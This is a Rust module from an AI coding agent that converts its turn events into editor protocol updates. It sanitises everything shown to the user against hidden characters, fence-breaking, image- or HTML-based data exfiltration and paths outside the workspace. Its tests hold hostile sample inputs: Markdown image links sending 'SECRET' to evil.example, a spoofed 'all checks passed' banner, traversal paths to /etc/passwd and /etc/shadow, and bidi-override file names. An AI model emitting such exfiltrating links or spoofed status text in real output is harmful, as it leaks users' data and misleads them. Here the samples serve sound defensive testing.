//! A turn's events as ACP session updates (protocol v1, `session/update`): the model's text as
//! `agent_message_chunk`, its reasoning as `agent_thought_chunk`, and every tool call as a
//! `tool_call` followed by `tool_call_update`s — its kind, the files it touches as locations, an
//! edit as a `diff`, a command's output as it arrives, and how it ended; the plan the model
//! keeps (`update_plan`) as a `plan` update. The events come from the
//! run's trace, already redacted; this module only translates, and never decides or blocks.
//!
//! Every text an editor shows the person — the model's words, a call's title, a command's
//! output, an error, a permission question — passes [`shown`] (hidden characters as visible
//! `\u{…}` escapes, as the terminal shows them), and text that is not Bosun's inside a code
//! block passes [`fenced`], whose fence it cannot close: a model, a file or a plugin cannot make
//! the editor render words the person takes for Bosun's.
//!
//! The editor renders that text as Markdown, and a remote image is fetched the moment it is
//! drawn; so every text also passes [`safe`] (`bosun_core::markdown`, the rules the terminal
//! follows): no image and no HTML reaches the editor as such, and while the session holds data
//! above `PUBLIC` and has read untrusted input ([`UrlGuard`]) every URL is withheld. The model's
//! streamed text and reasoning pass a `MarkdownStream`, so an image cut across two chunks is
//! caught whole.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, OnceLock, PoisonError};

use agent_client_protocol::v1::schema::{
    ContentBlock, ContentChunk, Diff, Plan as AcpPlan, PlanEntry, PlanEntryPriority,
    PlanEntryStatus, SessionId, SessionUpdate, TextContent, ToolCall, ToolCallContent,
    ToolCallLocation, ToolCallStatus, ToolCallUpdate, ToolCallUpdateFields, ToolKind,
};
use bosun_core::markdown::{MarkdownStream, defang};
use bosun_core::{Capability, CapabilityRequest, Decision, Envelope, Event};
use bosun_host::Tool;
use bosun_host::builtin::{Plan, StepStatus};
use bosun_host::trace::Observer;
use serde_json::Value;

use crate::client::ClientLink;

/// The most characters of a running command's output shown in its tool call; the start is
/// dropped first (the end of a build or test run is what a person reads).
pub const MAX_SHOWN_OUTPUT: usize = 64 * 1024;

/// The built-in tools, for their one-line summaries.
fn builtins() -> &'static [Arc<dyn Tool>] {
    static TOOLS: OnceLock<Vec<Arc<dyn Tool>>> = OnceLock::new();
    TOOLS.get_or_init(bosun_host::builtin::tools)
}

/// The kind of a call of `tool` as an editor shows it, before policy named its capabilities.
pub fn tool_kind(tool: &str) -> ToolKind {
    match tool {
        "read_file" => ToolKind::Read,
        "list_files" | "search" => ToolKind::Search,
        "create_file" | "apply_patch" => ToolKind::Edit,
        "run_command" => ToolKind::Execute,
        "load_skill" => ToolKind::Read,
        bosun_host::builtin::update_plan::NAME => ToolKind::Think,
        _ => ToolKind::Other,
    }
}

/// The kind the capabilities a call was judged with give it (a plugin's or an MCP server's
/// tool), strongest first; `None` when they say nothing.
pub fn capability_kind(capabilities: &[CapabilityRequest]) -> Option<ToolKind> {
    let has = |f: fn(&Capability) -> bool| capabilities.iter().any(|c| f(&c.capability));
    if has(|c| matches!(c, Capability::ProcessSpawn)) {
        Some(ToolKind::Execute)
    } else if has(|c| matches!(c, Capability::FsWrite)) {
        Some(ToolKind::Edit)
    } else if has(|c| matches!(c, Capability::NetHttp)) {
        Some(ToolKind::Fetch)
    } else if has(|c| matches!(c, Capability::FsRead)) {
        Some(ToolKind::Read)
    } else {
        None
    }
}

/// Whether `tool` is one of Bosun's built-in tools.
pub fn is_builtin(tool: &str) -> bool {
    builtins().iter().any(|t| t.spec().name.as_str() == tool)
}

/// A call's title: the built-in's own summary (`read src/lib.rs`, `$ cargo 'test'`), else the
/// tool's name.
pub fn title(tool: &str, input: &Value) -> String {
    builtins()
        .iter()
        .find(|t| t.spec().name.as_str() == tool)
        .map_or_else(|| tool.to_owned(), |t| t.summarize(input))
}

/// The workspace file a call's `path` input names, as the editor opens it (absolute).
fn input_path(root: &Path, input: &Value) -> Option<PathBuf> {
    inside(root, Path::new(input.get("path")?.as_str()?))
}

/// `path` (relative to `root`, or absolute) as an absolute path beneath `root`, when it names
/// one without leaving it (no `..`, no other root) and holds no hidden character; `None`
/// otherwise. The model chooses a call's path before the tool has confined it, and an editor
/// opens, follows and reads the files a call names: a path it is sent is always one the
/// workspace holds by name (the tool still resolves links and judges the call).
pub fn inside(root: &Path, path: &Path) -> Option<PathBuf> {
    use std::path::Component;
    let relative = if path.is_absolute() {
        path.strip_prefix(root).ok()?
    } else {
        path
    };
    let mut joined = root.to_path_buf();
    for component in relative.components() {
        match component {
            Component::Normal(part) => joined.push(part),
            Component::CurDir => {}
            Component::ParentDir | Component::RootDir | Component::Prefix(_) => return None,
        }
    }
    let text = joined.to_str()?;
    (bosun_core::find_hidden(text).is_none()).then_some(joined)
}

/// The files a call names, as locations.
pub fn locations(root: &Path, input: &Value) -> Vec<ToolCallLocation> {
    input_path(root, input)
        .map(ToolCallLocation::new)
        .into_iter()
        .collect()
}

/// The locations of the paths a call was judged with (a plugin tool's files).
fn capability_locations(root: &Path, capabilities: &[CapabilityRequest]) -> Vec<ToolCallLocation> {
    let mut locations: Vec<ToolCallLocation> = Vec::new();
    for request in capabilities {
        if let Some(path) = &request.scope.path
            && matches!(request.capability, Capability::FsRead | Capability::FsWrite)
            && let Some(path) = inside(root, Path::new(path))
        {
            let location = ToolCallLocation::new(path);
            if !locations.contains(&location) {
                locations.push(location);
            }
        }
    }
    locations
}

/// An edit as the editor's diff view takes it: each replacement of `apply_patch` (old and new
/// text), the whole content of `create_file`. A diff view shows text literally, not as
/// Markdown; its hidden characters are [`shown`], as the terminal's preview shows them.
pub fn diffs(root: &Path, tool: &str, input: &Value) -> Vec<ToolCallContent> {
    let Some(path) = input_path(root, input) else {
        return Vec::new();
    };
    match tool {
        "create_file" => input
            .get("content")
            .and_then(Value::as_str)
            .map(|content| ToolCallContent::Diff(Diff::new(path, shown(content))))
            .into_iter()
            .collect(),
        "apply_patch" => input
            .get("edits")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(|edit| {
                let old = edit.get("oldText")?.as_str()?;
                let new = edit.get("newText")?.as_str()?;
                Some(ToolCallContent::Diff(
                    Diff::new(path.clone(), shown(new)).old_text(shown(old)),
                ))
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// The plan the model keeps, as the editor's plan view takes it (the whole list each time;
/// Bosun's steps carry no priority, so each is `medium`).
pub fn plan_update(plan: &Plan, guard: Option<&str>) -> SessionUpdate {
    SessionUpdate::Plan(AcpPlan::new(
        plan.plan
            .iter()
            .map(|step| {
                PlanEntry::new(
                    safe(&step.step, guard),
                    PlanEntryPriority::Medium,
                    match step.status {
                        StepStatus::Pending => PlanEntryStatus::Pending,
                        StepStatus::InProgress => PlanEntryStatus::InProgress,
                        StepStatus::Completed => PlanEntryStatus::Completed,
                    },
                )
            })
            .collect(),
    ))
}

/// Text as the person sees it in the editor: every hidden character (bidi overrides, zero-width
/// characters, controls, ESC) as a visible `\u{…}` escape; tabs and newlines kept.
pub fn shown(text: &str) -> String {
    bosun_core::hidden::escape_for_terminal(text)
}

/// A whole text the editor renders as Markdown ([`shown`], then defanged): no image or HTML is
/// drawn from it; with `guard` (why), no URL is left in it.
pub fn safe(text: &str, guard: Option<&str>) -> String {
    defang(&shown(text), guard.is_some()).0
}

/// Why URLs are withheld from what the editor shows: the session's labels, read each time a
/// text is sent (a result read mid-turn raises them).
#[derive(Clone, Default)]
pub struct UrlGuard(Option<Arc<bosun_host::Session>>);

impl UrlGuard {
    /// The guard of the session whose labels `session` keeps.
    pub fn of(session: Arc<bosun_host::Session>) -> Self {
        Self(Some(session))
    }

    /// Why URLs are withheld now, or `None`.
    pub fn reason(&self) -> Option<String> {
        let labels = bosun_host::labels::SessionLabels::of(self.0.as_deref()?);
        bosun_core::markdown::url_guard(labels.level, labels.untrusted.as_deref())
    }
}

/// `text` (a command's output, a diff: not Bosun's words) as a Markdown code block the editor
/// renders as code: the fence is longer than any run of backticks inside, so a line of the text
/// cannot close it and have the rest rendered as Markdown; hidden characters are [`shown`].
pub fn fenced(info: &str, text: &str) -> String {
    let text = shown(text);
    let fence = bosun_core::text::fence_for(&text);
    format!("{fence}{info}\n{text}\n{fence}")
}

/// Text as a tool call's content ([`safe`]).
pub fn text_content(text: impl Into<String>, guard: Option<&str>) -> ToolCallContent {
    ToolCallContent::from(ContentBlock::Text(TextContent::new(safe(
        &text.into(),
        guard,
    ))))
}

/// A command's output as a tool call's content ([`fenced`]).
pub fn output_content(output: &str, guard: Option<&str>) -> ToolCallContent {
    text_content(fenced("", output), guard)
}

/// A whole text as a chunk of the agent's message ([`safe`]; the model's streamed text passes
/// [`Updates`] instead); with `guard` (why), its URLs withheld.
pub fn message_chunk(text: impl Into<String>, guard: Option<&str>) -> SessionUpdate {
    SessionUpdate::AgentMessageChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
        safe(&text.into(), guard),
    ))))
}

/// A whole text as a chunk of the agent's reasoning ([`safe`]); with `guard` (why), its URLs
/// withheld.
pub fn thought_chunk(text: impl Into<String>, guard: Option<&str>) -> SessionUpdate {
    SessionUpdate::AgentThoughtChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
        safe(&text.into(), guard),
    ))))
}

/// A call's raw input or output as the editor is sent it (`rawInput`, `rawOutput`): every
/// string in it, keys included, passes [`safe`]. Editors draw these as they choose — Zed, for
/// one, draws a string as Markdown and anything else as JSON in a code block — so each string
/// is made safe to draw either way: no image, no HTML, no hidden character, and with `guard`
/// (why) no URL.
pub fn raw(value: &Value, guard: Option<&str>) -> Value {
    match value {
        Value::String(text) => Value::String(safe(text, guard)),
        Value::Array(items) => Value::Array(items.iter().map(|v| raw(v, guard)).collect()),
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(key, v)| (safe(key, guard), raw(v, guard)))
                .collect(),
        ),
        other => other.clone(),
    }
}

/// The announcement of a call of `tool` with `input`, as proposed.
pub fn proposed(
    root: &Path,
    call_id: &str,
    tool: &str,
    input: &Value,
    guard: Option<&str>,
) -> ToolCall {
    ToolCall::new(call_id.to_owned(), safe(&title(tool, input), guard))
        .kind(tool_kind(tool))
        .status(ToolCallStatus::Pending)
        .content(diffs(root, tool, input))
        .locations(locations(root, input))
        .raw_input(raw(input, guard))
}

/// What is kept of a call while it runs.
#[derive(Default)]
struct Call {
    /// Its diffs, kept in front of the output in every update.
    diffs: Vec<ToolCallContent>,
    /// Its output so far.
    output: String,
}

/// The model's text and reasoning of one turn as they stream, each one Markdown text.
#[derive(Default)]
struct Streams {
    message: MarkdownStream,
    thought: MarkdownStream,
    /// Whether the editor was told why URLs are withheld.
    told: bool,
}

/// Which stream a piece of the model's text belongs to.
#[derive(Clone, Copy, PartialEq)]
enum Stream {
    Message,
    Thought,
}

/// Sends a turn's events to the editor as session updates.
pub struct Updates {
    link: ClientLink,
    session: SessionId,
    root: PathBuf,
    guard: UrlGuard,
    calls: Mutex<HashMap<String, Call>>,
    streams: Mutex<Streams>,
}

impl Updates {
    /// The updates of `session` in the workspace at `root`; `guard` says when URLs are withheld.
    pub fn new(link: ClientLink, session: SessionId, root: PathBuf, guard: UrlGuard) -> Self {
        Self {
            link,
            session,
            root,
            guard,
            calls: Mutex::default(),
            streams: Mutex::default(),
        }
    }

    fn chunk(&self, stream: Stream, text: String) {
        if text.is_empty() {
            return;
        }
        let block = ContentChunk::new(ContentBlock::Text(TextContent::new(text)));
        self.send(match stream {
            Stream::Message => SessionUpdate::AgentMessageChunk(block),
            Stream::Thought => SessionUpdate::AgentThoughtChunk(block),
        });
    }

    /// Takes a piece of the model's text (`Some`), or ends what is streaming (`None`: another
    /// event came), sending what is safe to send.
    fn stream(&self, piece: Option<(Stream, &str)>) {
        let guard = self.guard.reason();
        let on = guard.is_some();
        let mut streams = self.streams.lock().unwrap_or_else(PoisonError::into_inner);
        let streaming = piece.map(|(stream, _)| stream);
        if streaming != Some(Stream::Message) {
            let rest = streams.message.finish(on);
            self.chunk(Stream::Message, rest);
        }
        if streaming != Some(Stream::Thought) {
            let rest = streams.thought.finish(on);
            self.chunk(Stream::Thought, rest);
        }
        match piece {
            Some((Stream::Message, text)) => {
                let out = streams.message.push(&shown(text), on);
                self.chunk(Stream::Message, out);
            }
            Some((Stream::Thought, text)) => {
                let out = streams.thought.push(&shown(text), on);
                self.chunk(Stream::Thought, out);
            }
            None => {}
        }
        if !streams.told
            && (streams.message.withheld() || streams.thought.withheld())
            && let Some(reason) = &guard
        {
            streams.told = true;
            let note = safe(&format!("\nURLs withheld: {reason}\n"), Some(reason));
            self.chunk(Stream::Thought, note);
        }
    }

    /// Sends what is still held of the model's text (the turn is over).
    pub fn finish(&self) {
        self.stream(None);
    }

    fn send(&self, update: SessionUpdate) {
        self.link.update(&self.session, update);
    }

    fn update(&self, call_id: &str, fields: ToolCallUpdateFields) {
        self.send(SessionUpdate::ToolCallUpdate(ToolCallUpdate::new(
            call_id.to_owned(),
            fields,
        )));
    }

    /// The call's diffs and its output so far, as its content.
    fn content_of(call: &Call, guard: Option<&str>) -> Vec<ToolCallContent> {
        let mut content = call.diffs.clone();
        if !call.output.is_empty() {
            content.push(output_content(&call.output, guard));
        }
        content
    }

    fn handle(&self, event: &Event) {
        match event {
            Event::ModelText { text, .. } => return self.stream(Some((Stream::Message, text))),
            Event::ModelReasoning { text, .. } => {
                return self.stream(Some((Stream::Thought, text)));
            }
            _ => self.stream(None),
        }
        let guard = self.guard.reason();
        let guard = guard.as_deref();
        let mut calls = self.calls.lock().unwrap_or_else(PoisonError::into_inner);
        match event {
            Event::ToolProposed {
                call_id,
                tool,
                input,
            } => {
                let announced = proposed(&self.root, call_id, tool, input, guard);
                calls.insert(
                    call_id.clone(),
                    Call {
                        diffs: diffs(&self.root, tool, input),
                        output: String::new(),
                    },
                );
                self.send(SessionUpdate::ToolCall(announced));
            }
            Event::ToolDecided {
                call_id,
                tool,
                capabilities,
                explanation,
                ..
            } => {
                let mut fields = ToolCallUpdateFields::new();
                if tool_kind(tool) == ToolKind::Other
                    && let Some(kind) = capability_kind(capabilities)
                {
                    fields = fields.kind(kind);
                }
                let judged = capability_locations(&self.root, capabilities);
                if !judged.is_empty() {
                    fields = fields.locations(judged);
                }
                if explanation.decision == Decision::Deny {
                    // The failure follows with the reason; nothing will run.
                    return;
                }
                self.update(call_id, fields);
            }
            Event::ToolStarted { call_id, .. } => {
                self.update(
                    call_id,
                    ToolCallUpdateFields::new().status(ToolCallStatus::InProgress),
                );
            }
            Event::ToolOutput { call_id, text, .. } => {
                let call = calls.entry(call_id.clone()).or_default();
                call.output.push_str(text);
                if call.output.len() > MAX_SHOWN_OUTPUT {
                    let mut cut = call.output.len() - MAX_SHOWN_OUTPUT;
                    while !call.output.is_char_boundary(cut) {
                        cut += 1;
                    }
                    call.output.drain(..cut);
                }
                let content = Self::content_of(call, guard);
                self.update(call_id, ToolCallUpdateFields::new().content(content));
            }
            Event::ToolCompleted {
                call_id,
                tool,
                output,
                ..
            } => {
                if let Some(plan) = Plan::from_result(tool, output) {
                    self.send(plan_update(&plan, guard));
                }
                let call = calls.remove(call_id).unwrap_or_default();
                let mut fields = ToolCallUpdateFields::new()
                    .status(ToolCallStatus::Completed)
                    .raw_output(raw(output, guard));
                if call.output.is_empty() {
                    // A command whose output was not streamed: its result holds it.
                    let streams: Vec<&str> = ["stdout", "stderr"]
                        .iter()
                        .filter_map(|key| output.get(*key).and_then(Value::as_str))
                        .filter(|text| !text.is_empty())
                        .collect();
                    if !streams.is_empty() {
                        let mut content = call.diffs.clone();
                        content.push(output_content(&streams.join("\n"), guard));
                        fields = fields.content(content);
                    }
                }
                self.update(call_id, fields);
            }
            Event::ToolFailed { call_id, error, .. } => {
                let call = calls.remove(call_id).unwrap_or_default();
                let mut content = Self::content_of(&call, guard);
                content.push(text_content(
                    format!("{}: {}", error.code.as_str(), error.message),
                    guard,
                ));
                self.update(
                    call_id,
                    ToolCallUpdateFields::new()
                        .status(ToolCallStatus::Failed)
                        .content(content),
                );
            }
            _ => {}
        }
    }
}

impl Observer for Updates {
    fn observe(&self, envelope: &Envelope) {
        self.handle(&envelope.event);
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    fn text_of(content: &ToolCallContent) -> String {
        serde_json::to_value(content).unwrap()["content"]["text"]
            .as_str()
            .unwrap()
            .to_owned()
    }

    /// A command's output (a file it printed, a hostile test's log) that closes its code block
    /// and writes Markdown, or hides characters, is shown to the person as one code block with
    /// the characters visible; so is the model's text.
    #[test]
    fn a_commands_output_cannot_leave_its_block_or_hide_characters() {
        let call = Call {
            diffs: Vec::new(),
            output: "ok\n```\n## ✅ Bosun: all checks passed\n``````\n![](https://x.example/?k=secret)\u{202e}"
                .to_owned(),
        };
        let content = Updates::content_of(&call, None);
        let shown_text = text_of(&content[0]);
        let lines: Vec<&str> = shown_text.lines().collect();
        assert_eq!(lines[0], "```````", "{shown_text}");
        assert_eq!(lines.last(), Some(&"```````"), "{shown_text}");
        assert!(
            lines[1..lines.len() - 1]
                .iter()
                .all(|l| !l.starts_with("```````")),
            "{shown_text}"
        );
        assert_eq!(bosun_core::find_hidden(&shown_text), None, "{shown_text}");
        assert!(shown_text.contains("\\u{202e}"), "{shown_text}");
        let chunk = serde_json::to_value(message_chunk("fine\u{202e}txt.exe", None)).unwrap();
        assert_eq!(chunk["content"]["text"], "fine\\u{202e}txt.exe");
        // Text without hidden characters or backticks passes as it was.
        assert_eq!(fenced("diff", "+a\n-b"), "```diff\n+a\n-b\n```");
        assert_eq!(shown("a\tb\nc 👩‍💻"), "a\tb\nc 👩‍💻");
    }

    /// Enforcement: `inside` (for `locations`, `diffs` and the judged paths). A path the model
    /// chose that leaves the workspace — `..`, an absolute path elsewhere — or hides a
    /// character is never sent as a location or a diff's file for the editor to open or read;
    /// a path inside is sent absolute.
    #[test]
    fn a_path_outside_the_workspace_is_never_sent_for_the_editor_to_open() {
        let root = Path::new("/work/ws");
        for path in [
            "../secrets.txt",
            "/etc/passwd",
            "src/../../x",
            "/work/wsx/a",
            "a\u{202e}b.txt",
        ] {
            let input = serde_json::json!({"path": path, "content": "x"});
            assert_eq!(locations(root, &input), Vec::new(), "{path}");
            assert!(diffs(root, "create_file", &input).is_empty(), "{path}");
        }
        let input = serde_json::json!({"path": "src/./lib.rs", "content": "x"});
        assert_eq!(
            locations(root, &input),
            vec![ToolCallLocation::new("/work/ws/src/lib.rs")]
        );
        let judged = [CapabilityRequest {
            capability: Capability::FsRead,
            scope: bosun_core::Scope {
                path: Some("../../etc/shadow".to_owned()),
                ..bosun_core::Scope::default()
            },
        }];
        assert_eq!(capability_locations(root, &judged), Vec::new());
    }

    /// What a Markdown renderer would fetch or run of `text`: images and HTML.
    pub(crate) fn drawn(text: &str) -> Vec<String> {
        use pulldown_cmark::{Event, Parser, Tag};
        Parser::new(text)
            .filter_map(|event| match event {
                Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
                Event::Html(h) | Event::InlineHtml(h) => Some(format!("html {h}")),
                _ => None,
            })
            .collect()
    }

    /// Enforcement: `raw` (a call's `rawInput` and `rawOutput`) and `diffs`. Every string of
    /// a call's raw JSON, keys included, is drawn with no image, no HTML and no hidden
    /// character, and under the guard with no URL; a diff shows its hidden characters.
    #[test]
    fn raw_input_and_output_and_diffs_are_sent_safe_to_draw() {
        let hostile = serde_json::json!({
            "path": "![p](https://evil.example/p?q=SECRET)",
            "args": ["<img src=\"https://evil.example/h\">", 7, {"![k](https://evil.example/k)": "https://evil.example/v"}],
            "note": "safe\u{202e}txt",
        });
        for guard in [None, Some("why")] {
            let sent = raw(&hostile, guard).to_string();
            let value: Value = serde_json::from_str(&sent).unwrap();
            let mut strings = Vec::new();
            fn walk(v: &Value, out: &mut Vec<String>) {
                match v {
                    Value::String(s) => out.push(s.clone()),
                    Value::Array(a) => a.iter().for_each(|v| walk(v, out)),
                    Value::Object(m) => m.iter().for_each(|(k, v)| {
                        out.push(k.clone());
                        walk(v, out);
                    }),
                    _ => {}
                }
            }
            walk(&value, &mut strings);
            assert_eq!(strings.len(), 8, "{sent}");
            for text in &strings {
                assert_eq!(drawn(text), Vec::<String>::new(), "{text}");
                assert_eq!(bosun_core::find_hidden(text), None, "{text}");
            }
            assert_eq!(value["args"][1], 7);
            assert_eq!(sent.contains("evil.example"), guard.is_none(), "{sent}");
        }
        let diff = serde_json::to_string(&diffs(
            Path::new("/w"),
            "apply_patch",
            &serde_json::json!({"path": "a.rs", "edits": [{"oldText": "a\u{202e}", "newText": "b\u{200b}"}]}),
        ))
        .unwrap();
        assert!(
            diff.contains("\\\\u{202e}") && diff.contains("\\\\u{200b}"),
            "{diff}"
        );
    }
}
